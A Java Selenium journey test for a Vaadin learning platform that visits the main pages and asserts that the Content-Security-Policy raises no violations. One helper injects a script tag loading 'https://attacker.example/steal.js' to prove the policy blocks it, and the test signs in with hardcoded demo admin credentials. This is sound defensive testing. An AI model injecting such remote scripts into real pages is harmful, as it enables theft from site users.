package org.htmacademy.journey;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.htmacademy.account.AccountService;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every main page, under the Content-Security-Policy the application sends, in Chromium: a listener installed
 * before any of the page's own scripts collects each {@code securitypolicyviolation} event, and none may come. A
 * policy Vaadin cannot live with shows up here as a blocked script, style, font or connection.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "htm.embedded-database.directory=target/embedded-mariadb",
				"htm.embedded-database.wipe-on-start=true", "vaadin.devmode.devTools.enabled=false" })
class ContentSecurityPolicyJourneyTest {

	static final String COURSE = "courses/dental-water-quality-sterility-assurance";

	static final String LISTENER = """
			window.__cspViolations = [];
			document.addEventListener('securitypolicyviolation', e => window.__cspViolations.push(
			    e.violatedDirective + ' blocked ' + (e.blockedURI || 'inline') + ' at ' + e.sourceFile + ':'
			    + e.lineNumber + ' ' + (e.sample || '')));
			""";

	@LocalServerPort
	int port;

	@Autowired
	AccountService accounts;

	final List<String> violations = new ArrayList<>();

	@Test
	void the_main_pages_work_under_the_policy_with_no_violation_reported() throws Exception {
		String learner = "csp-" + System.nanoTime() + "@clinic.example.org";
		accounts.register(learner, "strict policy passphrase", "Casey Policy");
		try (BrowserJourney browser = new BrowserJourney(port)) {
			((ChromeDriver) browser.driver).executeCdpCommand("Page.addScriptToEvaluateOnNewDocument",
					Map.of("source", LISTENER));
			browser.run("content-security-policy", () -> {
				visit(browser, "", By.linkText("Create a free account"));
				visit(browser, "register", By.id("register-email"));
				visit(browser, "login", By.cssSelector("vaadin-login-form"));
				policyIsOnAndReported(browser);

				browser.signIn(learner, "strict policy passphrase");
				collect(browser, "dashboard");
				visit(browser, "catalog", By.cssSelector("a[href^='courses/']"));
				visit(browser, COURSE, By.id("enrol"));
				browser.click(By.id("enrol"));
				browser.click(By.id("continue"));
				browser.waitFor(By.cssSelector(".lesson-body img"));
				collect(browser, "lesson");
				visit(browser, COURSE, By.cssSelector("a[href^='quizzes/']"));
				browser.click(By.cssSelector("a[href^='quizzes/']"));
				browser.click(By.id("start-attempt"));
				browser.waitFor(By.cssSelector(".question-stage .question-panel"));
				browser.click(By.id("submit-attempt"));
				browser.waitFor(By.id("confirm-submit"));
				collect(browser, "attempt with the submit dialog open");
				browser.click(By.id("confirm-submit"));
				browser.waitFor(By.id("reviewed-questions"));
				collect(browser, "result and review");
				for (String page : List.of("transcript", "certificates", "my-classes", "profile")) {
					visit(browser, page, By.tagName("h1"));
				}
				browser.waitFor(By.id("sign-out")).click();
				browser.waitFor(By.linkText("Create a free account"));
				collect(browser, "signed out");

				browser.signIn("admin@example.com", "keep-it-safe-demo");
				for (String page : List.of("admin/users", "admin/courses", "admin/instructors", "teaching", "skills",
						"cohorts", "authoring")) {
					visit(browser, page, By.tagName("h1"));
				}
				browser.screenshot("csp-authoring");
			});
		}
		assertThat(violations).isEmpty();
	}

	/**
	 * A script from another site, added as injected markup would add it, must be blocked and the block reported
	 * here: proof that the policy is on and that this test would see a violation.
	 */
	@SuppressWarnings("unchecked")
	private static void policyIsOnAndReported(BrowserJourney browser) throws Exception {
		JavascriptExecutor js = (JavascriptExecutor) browser.driver;
		js.executeScript("var s = document.createElement('script'); s.src = 'https://attacker.example/steal.js';"
				+ " document.body.appendChild(s);");
		Thread.sleep(500);
		assertThat((List<Object>) js.executeScript("return window.__cspViolations.splice(0)")).singleElement()
			.asString()
			.startsWith("script-src")
			.contains("https://attacker.example/steal.js");
	}

	private void visit(BrowserJourney browser, String path, By ready) throws Exception {
		browser.open(path);
		try {
			browser.waitFor(ready);
		}
		catch (RuntimeException notShown) {
			collect(browser, path);
			throw new AssertionError(path + " did not render; violations so far: " + violations, notShown);
		}
		collect(browser, path);
	}

	/** Reads what the page reported so far; Vaadin's own requests finish within the pause. */
	@SuppressWarnings("unchecked")
	private void collect(BrowserJourney browser, String where) throws Exception {
		Thread.sleep(700);
		Object reported = ((JavascriptExecutor) browser.driver)
			.executeScript("return window.__cspViolations ? window.__cspViolations.splice(0) : ['no listener']");
		for (Object violation : (List<Object>) reported) {
			violations.add(where + ": " + violation);
		}
	}

}
